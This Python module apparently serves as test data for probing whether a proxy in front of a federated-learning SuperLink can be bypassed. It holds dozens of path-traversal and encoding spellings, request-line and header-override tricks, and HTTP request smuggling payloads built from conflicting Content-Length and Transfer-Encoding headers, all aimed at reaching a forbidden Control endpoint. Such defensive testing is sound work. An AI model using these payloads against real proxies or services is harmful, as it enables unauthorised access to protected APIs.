# ruff: noqa: E501
"""How a forbidden call can be spelled so that a proxy takes it for an allowed one: paths, request lines, two ends of
one request.

Every entry goes out byte for byte. The forbidden call is Control's list-runs, which an empty message is valid for, so
that a SuperLink that is reached carries it out and answers 200.
"""

from __future__ import annotations

ALLOWED = "/v1/fleet/pull-messages"
LIST = "/v1/control/list-runs"
MEDIA = "application/protobuf"

SPELLINGS = (
    "//v1/control/list-runs", "/v1//control/list-runs", "/./v1/control/list-runs", "/v1/control/list-runs/", "/v1/control/list-runs?x",
    "/v1%2fcontrol%2flist-runs", "/v1%2Fcontrol/list-runs", "/%76%31/control/list-runs", "/v1/%63ontrol/list-runs", "/v1%252fcontrol/list-runs",
    "/v1/fleet/../control/list-runs", "/v1/fleet/%2e%2e/control/list-runs", "/v1/fleet/..%2fcontrol/list-runs", "/v1/fleet/.%2e/control/list-runs",
    "/v1/fleet/..;/control/list-runs", "/v1/fleet/;/../control/list-runs", "/v1/fleet/..\\control\\list-runs", "/v1/fleet/%c0%ae%c0%ae/control/list-runs",
    ALLOWED + "/../../control/list-runs", ALLOWED + "/%2e%2e/%2e%2e/control/list-runs", ALLOWED + "?/../../control/list-runs",
    ALLOWED + ";/../../control/list-runs", ALLOWED + "#/../../control/list-runs", ALLOWED + "%00/../../control/list-runs",
    ALLOWED + "%0a/../../control/list-runs", ALLOWED + "%0d%0a", ALLOWED + "%20HTTP/1.1", ALLOWED + "/", ALLOWED + "%00", "/V1/FLEET/PULL-MESSAGES",
    "/V1/Control/List-Runs", "/v1/control/list-runs;x=/v1/fleet/pull-messages", "/v1/control/list-runs#" + ALLOWED, "/v1/control/list-runs%23" + ALLOWED,
    "/v1/fleet/register-node", "/v1/fleet/register%2dnode", "/v1/fleet//register-node", "/v1/fleet/register-node?", "/v1/fleet/./unregister-node",
)  # fmt: skip


def post(
    target: str, version: str = "HTTP/1.1", host: str = "superlink:8000", more: str = "", method: str = "POST"
) -> bytes:
    return f"{method} {target} {version}\r\nHost: {host}\r\nContent-Type: {MEDIA}\r\nContent-Length: 0\r\n{more}\r\n".encode()


REQUEST_LINES = (
    post("https://superlink:8000" + LIST), post("http://127.0.0.1:8080" + LIST), post("https://superlink:8000" + ALLOWED + "/../../control/list-runs"),
    post("superlink:8000", method="CONNECT"), post("*", method="OPTIONS"), post(LIST, "HTTP/1.0"), post(LIST, "HTTP/1.2"), post(LIST, "HTTP/2.0"),
    post(LIST, "http/1.1"), f"POST {LIST}\r\n\r\n".encode(), post(LIST).replace(b"\r\n", b"\n"), post(LIST).replace(b" ", b"\t", 2),
    post(LIST).replace(b" ", b"  ", 2), b"\r\n" + post(LIST), post(f"{LIST} {ALLOWED}"), post(f"{ALLOWED} {LIST}"), post(ALLOWED + "\0" + LIST),
    post(LIST, more=f"X-Original-URL: {ALLOWED}\r\n"), post("/", more=f"X-Original-URL: {LIST}\r\nX-Rewrite-URL: {LIST}\r\n"),
    post(LIST, method="GET", more="X-HTTP-Method-Override: POST\r\n"), post(LIST, method="post"), post(LIST, host="127.0.0.1"),
    post(LIST, host=f"x{ALLOWED}"), post(LIST, more="Host: gateway\r\n"), post(LIST, more="X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n"),
    post(LIST, more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"),
)  # fmt: skip


def smuggled(length: str, encoding: str, body: bytes = b"0\r\n\r\n") -> bytes:
    """An allowed call that two parsers end at two places, with a Control call in between."""
    head = (
        f"POST {ALLOWED} HTTP/1.1\r\nHost: x\r\nContent-Type: {MEDIA}\r\n"
        + length.replace("WHOLE", str(len(body) + len(post(LIST))))
        + encoding
    )
    return head.encode() + b"\r\n" + body + post(LIST)


CHUNKED = "Transfer-Encoding: chunked\r\n"
SMUGGLING = (
    smuggled("Content-Length: WHOLE\r\n", CHUNKED), smuggled("Content-Length: 5\r\n", CHUNKED), smuggled("Content-Length: 0\r\n", CHUNKED, b""),
    *(smuggled("Content-Length: WHOLE\r\n", encoding) for encoding in (
        "Transfer-Encoding : chunked\r\n", "Transfer-Encoding:\tchunked\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding: chunked, identity\r\n",
        "Transfer-Encoding: identity\r\n" + CHUNKED, "Transfer-Encoding:\r\n chunked\r\n", "X: y\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: \x0bchunked\r\n", "Transfer_Encoding: chunked\r\n", CHUNKED + CHUNKED)),
    smuggled("Content-Length: 0\r\nContent-Length: WHOLE\r\n", "", b""), smuggled("Content-Length: 0, WHOLE\r\n", "", b""),
    smuggled("Content-Length: +0\r\n", "", b""), smuggled("Content-Length: 0x0\r\n", "", b""), smuggled("Content_Length: WHOLE\r\n", "", b""),
    smuggled("", CHUNKED, b"0;x\n\r\n\r\n"), smuggled("", CHUNKED, b"00000000000000000\r\n\r\n"), smuggled("", "", b""),
    smuggled("Content-Length: 0\r\n", "Expect: 100-continue\r\n", b""),
)  # fmt: skip
